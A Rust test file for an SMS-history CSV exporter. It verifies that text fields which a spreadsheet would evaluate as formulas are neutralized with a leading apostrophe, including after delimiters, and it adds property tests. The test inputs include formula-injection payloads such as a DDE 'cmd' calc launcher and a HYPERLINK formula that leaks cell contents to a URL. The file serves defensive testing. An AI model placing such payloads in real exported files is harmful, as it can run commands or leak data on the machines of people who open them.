//! Texts that a spreadsheet would evaluate as formulas.

use proptest::prelude::*;
use serde_json::{Value, json};
use voximplant_sms_history::export::{Column, Delimiter, ExportOptions, Format};

use super::{export, is_respelled, text};

/// The columns whose content other people control, with the API's field.
const TEXTS: [(Column, &str); 6] = [
    (Column::SourceNumber, "source_number"),
    (Column::DestinationNumber, "destination_number"),
    (Column::RawDirection, "direction"),
    (Column::StatusId, "status_id"),
    (Column::ErrorMessage, "error_message"),
    (Column::Text, "text"),
];

/// Whether the reader keeps a text as it is: directions and statuses lose the white space around them, and known
/// statuses are written in one spelling.
fn is_kept(column: Column, text: &str) -> bool {
    match column {
        Column::RawDirection => text.trim_ascii() == text,
        Column::StatusId => text.trim_ascii() == text && !is_respelled(text),
        _ => true,
    }
}

/// Exports one column of one row, and returns the cell.
fn cell(column: Column, row: &Value, neutralize_formulas: bool) -> String {
    let options = ExportOptions {
        columns: vec![column],
        neutralize_formulas,
        ..ExportOptions::default()
    };
    let file = export(options, std::slice::from_ref(row));
    let mut records = csv::Reader::from_reader(file.as_bytes()).into_records();
    records.next().unwrap().unwrap()[0].to_owned()
}

#[test]
fn formulas_in_every_text_column_are_neutralized() {
    for formula in [
        "=1+1",
        "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "=",
        "+1+1",
        "+",
        "+1555 0100001",
        "+15550100001,",
        "++15550100001",
        "+１２",
        "-1+1",
        "-15550100001",
        "-",
        "@SUM(1,1)",
        "\t 1+1",
        "\r 1+1",
        "\n 1+1",
        "\r\n 1+1",
        "\0=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1,1)",
        "=1+2\"; 1+2",
        "=1+2'\" ;, 1+2",
    ] {
        for (column, field) in TEXTS {
            if !is_kept(column, formula) {
                continue;
            }
            let row = json!({ field: formula });
            assert_eq!(cell(column, &row, true), format!("'{formula}"));
            assert_eq!(cell(column, &row, false), formula);
        }
    }
}

/// A spreadsheet of another country splits `1,"hi;=A1"` at the semicolon, and its second cell is a formula.
#[test]
fn formulas_behind_a_delimiter_in_a_text_are_neutralized() {
    for (formula, expected) in [
        ("hi;=HYPERLINK(A1)", "hi;'=HYPERLINK(A1)"),
        ("hi,=1+1", "hi,'=1+1"),
        ("hi\t=1+1", "hi\t'=1+1"),
        ("hi\n=1+1", "hi\n'=1+1"),
        ("hi\r\n-1+1", "hi\r\n'-1+1"),
        ("hi;\"=1+1\"", "hi;\"'=1+1\""),
        ("hi;\"\"@A1", "hi;\"\"'@A1"),
        ("hi;;＝1+1;+1;-1", "hi;;'＝1+1;'+1;'-1"),
        ("hi;\0=1+1", "hi;'\0=1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r\n=1+1", "'\r\n'=1+1"),
        ("=1+2\";=1+2", "'=1+2\";'=1+2"),
        ("=1+2'\" ;,=1+2", "'=1+2'\" ;,'=1+2"),
        ("a; =1", "a; =1"),
        ("a;b,c\td\ne", "a;b,c\td\ne"),
        ("a=1;b-1", "a=1;b-1"),
    ] {
        for (column, field) in TEXTS {
            if !is_kept(column, formula) {
                continue;
            }
            let row = json!({ field: formula });
            assert_eq!(cell(column, &row, true), expected);
            assert_eq!(cell(column, &row, false), formula);
        }
    }
}

#[test]
fn other_texts_are_not_changed() {
    for harmless in [
        "",
        "+15550100001",
        "+0",
        "15550100001",
        "Taxi24",
        "1=1",
        "a@example.com",
        " =1+1",
        "'=1+1",
        "\"=1+1\"",
        "привет =1",
        "😀",
    ] {
        for (column, field) in TEXTS {
            if is_kept(column, harmless) {
                assert_eq!(cell(column, &json!({ field: harmless }), true), harmless);
            }
        }
    }
}

#[test]
fn numbers_and_dates_are_not_changed() {
    let row = json!({ "cost": "-0.5", "message_id": 1, "processed_date": "2026-03-08 02:30:15" });
    assert_eq!(cell(Column::Cost, &row, true), "-0.5");
    assert_eq!(cell(Column::MessageId, &row, true), "1");
    assert_eq!(
        cell(Column::ProcessedDate, &row, true),
        "2026-03-08T02:30:15Z"
    );
}

#[test]
fn ndjson_is_not_neutralized() {
    let options = ExportOptions {
        format: Format::Ndjson,
        ..ExportOptions::default()
    };
    let rows = [json!({ "text": "=1+1" })];
    assert_eq!(export(options, &rows), "{\"text\":\"=1+1\"}\n");
}

proptest! {
    #[test]
    fn no_neutralized_text_begins_like_a_formula(text in text(), (column, field) in prop::sample::select(&TEXTS)) {
        // Known directions are written in the library's own spelling.
        prop_assume!(is_kept(column, &text));
        prop_assume!(!["in", "out"].contains(&text.to_ascii_lowercase().as_str()));
        let row = json!({ field: text });
        let written = cell(column, &row, true);
        let signs = ['=', '+', '-', '@', '\0', '＝', '＋', '－', '＠'];
        let dangerous = |text: &str| text.starts_with(signs) || text.starts_with(['\t', '\r', '\n']);
        let phone = written.strip_prefix('+').is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()));
        prop_assert!(phone || !dangerous(&written));
        for part in written.split([',', ';', '\t', '\r', '\n']).skip(1) {
            prop_assert!(!part.trim_start_matches('"').starts_with(signs));
        }
        // Nothing but apostrophes was added.
        let mut rest = text.chars().peekable();
        for c in written.chars() {
            if rest.next_if_eq(&c).is_none() {
                prop_assert_eq!(c, '\'');
            }
        }
        prop_assert_eq!(rest.next(), None);
    }

    #[test]
    fn no_reader_finds_a_formula_in_a_file_whatever_delimiter_it_splits_at(
        texts in prop::collection::vec("[a\",;\t\r\n=+@-]{0,8}", 1..4),
        delimiter in prop::sample::select(&Delimiter::ALL),
        other in prop::sample::select(&[b',', b';', b'\t'][..]),
    ) {
        let rows: Vec<_> = texts.iter().map(|text| json!({ "source_number": 1, "text": text })).collect();
        let columns = vec![Column::SourceNumber, Column::Text];
        let file = export(ExportOptions { delimiter, columns, ..ExportOptions::default() }, &rows);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(other).has_headers(false).flexible(true).from_reader(file.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                prop_assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} of {file:?}");
            }
        }
    }
}
